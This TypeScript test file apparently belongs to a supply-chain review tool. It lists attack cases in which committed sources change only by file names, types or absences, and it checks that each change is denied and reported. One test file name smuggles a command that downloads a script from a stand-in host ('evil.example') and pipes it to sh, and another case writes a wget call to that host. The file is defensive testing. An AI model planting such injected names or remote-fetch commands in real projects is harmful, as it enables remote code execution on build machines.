/**
 * Names, types and absences decide derivations too. The attacker can commit to a source that is judged by what is read
 * of it, and changes no file that was read: only which names there are. What must hold: a derivation that comes out
 * otherwise is not admitted until a reader has approved it, and `check` says so in the pull request.
 */
import { expect } from "vitest";
import type { Changes } from "../src/world-repository.ts";
import type { Attack, Theme } from "./attack.ts";
import { ListingsWorld } from "./listings-world.ts";

const DENIED = /^(?:listing-not-covered|odd-name|not-covered)$/;

interface Change {
  readonly number: number;
  readonly name: string;
  readonly attr: string;
  readonly files: Changes;
}

const COMMAND = "hooks/$(wget -qO- evil.example|sh)";
const link = (content: string) => ({ mode: 0o120000, content });

const CHANGES: readonly Change[] = [
  {
    number: 49,
    name: "a name that is a command, in a directory that a script goes through",
    attr: "names",
    files: { [COMMAND]: "" },
  },
  { number: 50, name: "a plain name in such a directory", attr: "names", files: { "hooks/two": "" } },
  {
    number: 51,
    name: "a plain name, where the directory is listed through a link",
    attr: "aliased",
    files: { "hooks/two": "" },
  },
  {
    number: 52,
    name: "a patch for a hole is taken away",
    attr: "patches",
    files: { "patches/1-fix-cve.patch": null },
  },
  {
    number: 53,
    name: "a patch is renamed by case alone, with the same content",
    attr: "patches",
    files: { "patches/1-fix-cve.patch": null, "patches/1-Fix-cve.patch": "fix\n" },
  },
  {
    number: 54,
    name: "a file is taken away from a directory that is copied whole",
    attr: "copied",
    files: { "src/hardening.sh": null },
  },
  {
    number: 55,
    name: "a submodule appears in a directory that is copied whole",
    attr: "copied",
    files: { "src/sub": { mode: 0o160000, content: "x" } },
  },
  {
    number: 56,
    name: "a file of such a directory can be run from now on",
    attr: "copied",
    files: { "src/main.sh": { mode: 0o100755, content: "main\n" } },
  },
  {
    number: 57,
    name: "a file that is only asked for is taken away",
    attr: "strict",
    files: { strict: null },
  },
  {
    number: 58,
    name: "a file that is asked for, and was not there, appears",
    attr: "relaxed",
    files: { relaxed: "" },
  },
  {
    number: 59,
    name: "a file that is asked for appears as a directory, by what is in it",
    attr: "relaxed",
    files: { "relaxed/x": "" },
  },
  { number: 60, name: "a listed file becomes a link", attr: "types", files: { "types/b": link("a") } },
  {
    number: 61,
    name: "a listed file becomes a directory",
    attr: "types",
    files: { "types/b": null, "types/b/c": "" },
  },
  {
    number: 62,
    name: "a file that is imported if it is there, and was not",
    attr: "chosen",
    files: { "override.nix": '"wget evil.example"' },
  },
];

async function tried(world: ListingsWorld, { attr, files }: Change): Promise<void> {
  const commit = await world.changed(files);
  const answer = await world.admit(attr, commit);
  expect({ attr, allowed: answer.allowed }).toEqual({ attr, allowed: false });
  expect(answer.codes.at(-1)).toMatch(DENIED);
  const checked = await world.check(attr, commit);
  expect({ code: checked.code, said: checked.stdout }).toEqual({
    code: 1,
    said: expect.stringMatching(/not-covered|odd-name/),
  });
}

const asAttack = (one: Change): Attack<ListingsWorld> => ({
  number: one.number,
  name: one.name,
  held: "Nobody has read that this name is there, gone or of this type: not admitted, and check says so.",
  run: (world) => tried(world, one),
});

export const namesAndAbsences: Theme<ListingsWorld> = {
  title: "Names and absences",
  by: "a person who can commit to an unsigned source",
  guard: "local/view, trust/slice, docs/slices.md",
  open: (version) => ListingsWorld.open(version),
  controls: [
    {
      name: "what bob has read is admitted, attribute by attribute",
      async run(world) {
        for (const attr of new Set(CHANGES.map(({ attr }) => attr))) {
          const answer = await world.admit(attr, world.base);
          expect([attr, answer.codes, answer.allowed]).toEqual([attr, [], true]);
        }
      },
    },
    {
      name: "an unsigned commit that changes nothing that is read or listed is admitted",
      async run(world) {
        const commit = await world.changed({ "docs/README": "hello\n" });
        for (const attr of ["names", "patches", "copied", "relaxed"])
          expect((await world.admit(attr, commit)).allowed).toBe(true);
        expect((await world.check("names", commit)).code).toBe(0);
      },
    },
    {
      name: "a new name in a listed directory that has no influence is admitted",
      async run(world) {
        const commit = await world.changed({ "hooks/two": "2\n" });
        const answer = await world.admit("counted", commit);
        expect([answer.codes, answer.allowed]).toEqual([[], true]);
      },
    },
  ],
  attacks: CHANGES.map(asAttack),
};
